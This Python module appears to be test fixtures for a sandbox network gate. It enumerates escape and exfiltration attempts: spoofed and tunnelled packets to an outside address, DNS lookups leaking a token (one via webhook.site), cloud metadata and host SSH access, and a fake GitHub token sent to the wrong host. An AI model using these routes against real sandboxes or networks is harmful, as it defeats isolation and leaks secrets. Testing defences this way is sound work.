"""The ways around the gate that somebody in the workspace may try; docs/security.md has the same list."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Final

OUTSIDE: Final = "203.0.113.10"
OUTSIDE6: Final = "2001:db8::10"
NAME_SERVER: Final = "10.0.2.3"
"""The machine's name server; in this test the outside has its address."""
METADATA: Final = "169.254.169.254"
HYPERVISOR: Final = "10.0.2.2"
MACHINE: Final = "10.0.2.15"
BRIDGE: Final = "10.10.1.1"
BRIDGE6: Final = "fd00:10::1"
GATE: Final = "10.10.1.10"
RESOLVER: Final = "10.10.1.2"
TOOLBOX: Final = "10.10.1.20"
STATE: Final = "10.30.1.4"
SENTINEL: Final = "10.30.1.5"
SCANNER: Final = "10.30.1.8"

CONTAINER: Final = "a container outside of the workspace's network"
VM: Final = "the machine itself"
BESIDE: Final = "the resolver"

Attempt = dict[str, Any]

GET: Final = "GET /{token} HTTP/1.0\r\nHost: {host}\r\n\r\n"
OPTIONS: Final = "OPTIONS icap://x/credcheck ICAP/1.0\r\n\r\n"
SAW: Final = "outside saw"


@dataclass(frozen=True)
class Way:
    """One way: what is tried in the workspace, and where else the same (or `control`) must succeed."""

    name: str
    title: str
    attempt: Attempt
    open_to: str = CONTAINER
    control: Attempt = field(default_factory=dict)
    to_upstream: bool = False
    """Whether the token must not even come to the resolver's own upstream."""


def tcp(host: str, port: int, *, send: str = GET, expect: str = SAW, via: str = "") -> Attempt:
    return {"kind": "tcp", "host": host, "port": port, "send": send, "expect": expect, "via": via}


def tls(host: str, port: int, *, via: str = "") -> Attempt:
    return {"kind": "tls", "host": host, "port": port, "send": "", "expect": "polis-state", "via": via}


def udp(host: str, *, via: str = "") -> Attempt:
    return {"kind": "udp", "host": host, "port": 9999, "send": "{token}", "expect": SAW, "via": via}


def icmp(host: str, *, via: str = "") -> Attempt:
    return {"kind": "icmp", "host": host, "send": "{token}", "expect": "", "via": via}


def dns(server: str, name: str, expect: str = "") -> Attempt:
    return {"kind": "dns", "host": server, "send": name, "expect": expect, "via": ""}


def raw(source: str, *, protocol: int = 17, via: str = "") -> Attempt:
    attempt = {"kind": "raw", "host": OUTSIDE, "source": source, "protocol": protocol}
    return {**attempt, "send": "{token}", "expect": "", "via": via}


def proxied(host: str, port: int, expect: str) -> Attempt:
    """Ask the gate as a proxy for a page."""
    return tcp(GATE, 8080, send=f"GET http://{host}:{port}/{{token}} HTTP/1.1\r\nHost: {host}\r\n\r\n", expect=expect)


def tunnelled(host: str, port: int, send: str, expect: str) -> Attempt:
    """Ask the gate as a proxy for a tunnel, and talk through it."""
    return tcp(
        GATE, 8080, send=f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}\r\n\r\n{send}", expect=f"{expect}| 200 "
    )


PAGE: Final = "GET /docker/ubuntu/dists/noble/InRelease HTTP/1.0\r\nHost: x\r\n\r\n"
"""What the lab's package mirror has, which listens on the loopback of the computer that runs the VM."""
PAGE_SAYS: Final = "SHA256"
MIRROR: Final = -1
"""The mirror's port, which the lab knows."""
SECRET: Final = "ghp_" + "wayaround0" * 3 + "wayaro"

WAYS: Final = (
    # Past the gate: the world by another router, or by what the gate does not take.
    Way("tcp-bridge", "TCP, with the machine's end of the bridge as router", tcp(OUTSIDE, 80, via=BRIDGE)),
    Way("udp-bridge", "UDP, with the machine's end of the bridge as router", udp(OUTSIDE, via=BRIDGE)),
    Way("icmp-bridge", "ICMP, with the machine's end of the bridge as router", icmp(OUTSIDE, via=BRIDGE)),
    Way("tcp-toolbox", "TCP, with the toolbox as router", tcp(OUTSIDE, 80, via=TOOLBOX)),
    Way("udp-toolbox", "UDP, with the toolbox as router", udp(OUTSIDE, via=TOOLBOX)),
    Way("tcp-resolver", "TCP, with the resolver as router", tcp(OUTSIDE, 80, via=RESOLVER)),
    Way("udp-resolver", "UDP, with the resolver as router", udp(OUTSIDE, via=RESOLVER)),
    Way("udp-gate", "UDP, through the gate", udp(OUTSIDE)),
    Way("icmp-gate", "ICMP, through the gate", icmp(OUTSIDE)),
    Way(
        "gre-gate", "another protocol (GRE), through the gate", raw("10.10.1.100", protocol=47), VM, raw("203.0.113.1")
    ),
    Way(
        "spoofed-bridge",
        "a packet with a neighbour's address as its source, by the bridge",
        raw(TOOLBOX, via=BRIDGE),
        VM,
        raw("203.0.113.1"),
    ),
    Way(
        "spoofed-gate", "a packet with a made-up source, through the gate", raw("203.0.113.77"), VM, raw("203.0.113.1")
    ),
    Way("ipv6-bridge", "IPv6, with the machine's end of the bridge as router", tcp(OUTSIDE6, 80, via=BRIDGE6), VM),
    Way(
        "tls-gate",
        "TLS that nobody inspects (the lab's gate opens none, and lets none pass)",
        tcp(OUTSIDE, 443, send="\x16\x03\x01\x00\x20{token}"),
    ),
    Way("other-gate", "a protocol that is not HTTP, on any TCP port", tcp(OUTSIDE, 22, send="{token}\r\n")),
    Way(
        "lie-gate",
        "a credential for one place in a request that says so and is sent to another",
        tcp(OUTSIDE, 80, send="GET /{token} HTTP/1.0\r\nHost: api.github.com\r\nAuthorization: " + SECRET + "\r\n\r\n"),
    ),
    # Names.
    Way("dns-outside", "a name server outside, asked directly", dns(OUTSIDE, "{token}.outside.test")),
    Way(
        "dns-blocked",
        "a name on the blocklist",
        dns(RESOLVER, "{token}.webhook.site"),
        CONTAINER,
        dns(OUTSIDE, "{token}.webhook.site"),
        to_upstream=True,
    ),
    Way(
        "dns-inside",
        "the names and addresses of the services",
        dns(RESOLVER, "state", "^10[.]30"),
        BESIDE,
        dns("127.0.0.11", "state", "^10[.]30"),
    ),
    # The machine.
    Way("ssh-bridge", "the machine's SSH server", tcp(BRIDGE, 22, send="", expect="SSH-2"), VM),
    Way(
        "ssh-outer",
        "the machine's SSH server at its outer address, by the bridge",
        tcp(MACHINE, 22, send="", expect="SSH-2", via=BRIDGE),
    ),
    Way(
        "ssh-gate",
        "the machine's SSH server at its outer address, through the gate",
        tcp(MACHINE, 22, send="", expect="SSH-2"),
    ),
    Way(
        "ssh-connect",
        "the machine's SSH server, by CONNECT",
        tunnelled(MACHINE, 22, "", "SSH-2"),
        CONTAINER,
        tcp(MACHINE, 22, send="", expect="SSH-2"),
    ),
    Way("ssh-ipv6", "the machine's SSH server, by IPv6", tcp(BRIDGE6, 22, send="", expect="SSH-2"), VM),
    Way("port-tcp", "any other TCP port of the machine (Docker's 2375)", tcp(BRIDGE, 2375), VM),
    Way("port-udp", "any UDP port of the machine", udp(BRIDGE), VM),
    Way(
        "port-proxy", "a port of the machine, by the gate as a proxy", proxied(BRIDGE, 2375, SAW), VM, tcp(BRIDGE, 2375)
    ),
    # What the machine can reach.
    Way("metadata", "a cloud's metadata service", tcp(METADATA, 80)),
    Way("metadata-bridge", "a cloud's metadata service, by the bridge", tcp(METADATA, 80, via=BRIDGE)),
    Way(
        "metadata-proxy",
        "a cloud's metadata service, by the gate as a proxy",
        proxied(METADATA, 80, SAW),
        CONTAINER,
        tcp(METADATA, 80),
    ),
    Way("host", "the computer that runs the VM", tcp(HYPERVISOR, MIRROR, send=PAGE, expect=PAGE_SAYS)),
    Way(
        "host-bridge",
        "the computer that runs the VM, by the bridge",
        tcp(HYPERVISOR, MIRROR, send=PAGE, expect=PAGE_SAYS, via=BRIDGE),
    ),
    Way(
        "host-connect",
        "the computer that runs the VM, by CONNECT",
        tunnelled(HYPERVISOR, MIRROR, PAGE, PAGE_SAYS),
        CONTAINER,
        tcp(HYPERVISOR, MIRROR, send=PAGE, expect=PAGE_SAYS),
    ),
    # The other services.
    Way("state-gate", "the state, through the gate", tls(STATE, 6379), VM),
    Way("state-bridge", "the state, by the bridge", tls(STATE, 6379, via=BRIDGE), VM),
    Way("state-toolbox", "the state, with the toolbox as router", tls(STATE, 6379, via=TOOLBOX), VM),
    Way("state-connect", "the state, by CONNECT", tunnelled(STATE, 6379, "", "polis-state"), VM, tls(STATE, 6379)),
    Way("sentinel-gate", "the sentinel, through the gate", tcp(SENTINEL, 1344, send=OPTIONS, expect="ICAP/1.0"), VM),
    Way(
        "sentinel-resolver",
        "the sentinel, with the resolver as router",
        tcp(SENTINEL, 1344, send=OPTIONS, expect="ICAP/1.0", via=RESOLVER),
        VM,
    ),
    Way(
        "sentinel-proxy",
        "the sentinel, by the gate as a proxy",
        proxied(SENTINEL, 1344, "ICAP/1.0"),
        VM,
        tcp(SENTINEL, 1344, send=OPTIONS, expect="ICAP/1.0"),
    ),
    Way(
        "sentinel-name",
        "the sentinel, by a name outside that has its address",
        proxied("inside.test", 1344, "ICAP/1.0"),
        VM,
        tcp(SENTINEL, 1344, send=OPTIONS, expect="ICAP/1.0"),
    ),
    Way("scanner-gate", "the scanner, through the gate", tcp(SCANNER, 3310, send="PING\n", expect="PONG"), VM),
)
